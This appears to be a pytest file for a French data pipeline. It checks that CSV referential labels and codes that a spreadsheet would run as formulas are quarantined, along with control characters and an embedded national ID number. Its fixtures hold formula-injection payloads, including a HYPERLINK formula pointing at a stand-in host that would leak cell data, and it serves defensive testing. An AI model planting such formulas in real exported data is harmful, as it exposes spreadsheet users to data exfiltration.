"""Issue #16, finding 6 (ingestion side): a bassin label `=HYPERLINK(...)` of
`referentiels/bassins_2024.csv` was loaded as is, and published in the public `indicateurs.csv`.
Labels and codes of the referential that a spreadsheet would read as a formula are now
quarantined with their rule (and their value fingerprinted, as any free text); the territory
labels of the COG seeds, committed with the code, are checked here too."""

from __future__ import annotations

import csv
import hmac
from pathlib import Path

import duckdb

from ingestion.land import land_all
from ingestion.nir import key_for
from tests.conftest import write

SEEDS = Path(__file__).resolve().parents[2] / "dbt_project" / "seeds" / "cog"
NIR = "1840375123456" + key_for("1840375123456")


def fp(value: str, classes: str) -> str:
    h = hmac.new(b"test-key", f"empreinte:{value}".encode(), "sha256").hexdigest()[:16]
    return f"<empreinte:{h}, {len(value)} caractères, classes : {classes}>"


def test_labels_and_codes_read_as_formulas_are_quarantined(socle_env):
    write(socle_env.landing_dir, "referentiels/bassins_2024.csv",
          "code_commune;code_bassin;libelle_bassin\n"
          "35238;B1;Rennes - Nord\n"                                   # a dash inside is fine
          '13055;B2;"=HYPERLINK(""http://x.example/?""&A1;""clic"")"\n'
          "33063;B3;+33 Bordeaux\n"
          "31555;B4;-Toulouse\n"
          "59350;B5;@SUM(A1)\n"
          "67482;B6;\t=1+2\n"                                          # tab then =: trimmed, still a formula
          '69123;B7;"Lyon\rcentre"\n'                                  # a carriage return inside
          f"75056;B8;Paris {NIR}\n"                                    # a NIR in a label
          "2A004;=1+2;Ajaccio\n")                                      # a code read as a formula
    [outcome] = land_all()
    assert (outcome.statut, outcome.lignes_chargees, outcome.lignes_quarantaine) == ("acceptee", 1, 8)
    with duckdb.connect(str(socle_env.warehouse), read_only=True) as con:
        loaded = con.sql("select code_commune, code_bassin, libelle_bassin from raw.bassins").fetchall()
        quarantine = con.sql("select ligne, colonne, regle, valeur from raw.quarantaine order by ligne").fetchall()
    assert loaded == [("35238", "B1", "Rennes - Nord")]
    assert quarantine == [
        (3, "libelle_bassin", "libelle_formule", fp('=HYPERLINK("http://x.example/?"&A1;"clic")', "chiffres/lettres/ponctuation")),
        (4, "libelle_bassin", "libelle_formule", fp("+33 Bordeaux", "chiffres/lettres/espaces/ponctuation")),
        (5, "libelle_bassin", "libelle_formule", fp("-Toulouse", "lettres/ponctuation")),
        (6, "libelle_bassin", "libelle_formule", fp("@SUM(A1)", "chiffres/lettres/ponctuation")),
        (7, "libelle_bassin", "libelle_formule", fp("=1+2", "chiffres/ponctuation")),
        (8, "libelle_bassin", "libelle_caractere_de_controle", fp("Lyon\rcentre", "lettres/espaces")),
        (9, "libelle_bassin", "libelle_nir", fp(f"Paris {NIR}", "chiffres/lettres/espaces")),
        (10, "code_bassin", "code_bassin_invalide", fp("=1+2", "chiffres/ponctuation"))]


def test_the_territory_labels_of_the_cog_seeds_hold_no_formula():
    """The seeds are committed with the code (trusted), but their labels reach the CSV files too."""
    checked = 0
    for seed in ("cog_regions.csv", "cog_departements.csv", "cog_arrondissements.csv", "cog_communes.csv"):
        with (SEEDS / seed).open(encoding="utf-8") as f:
            for row in csv.DictReader(f):
                for column, value in row.items():
                    if column.startswith(("libelle", "nom")):
                        checked += 1
                        assert value and value[0] not in "=+-@\t\r", (seed, column, value)
    assert checked > 30_000
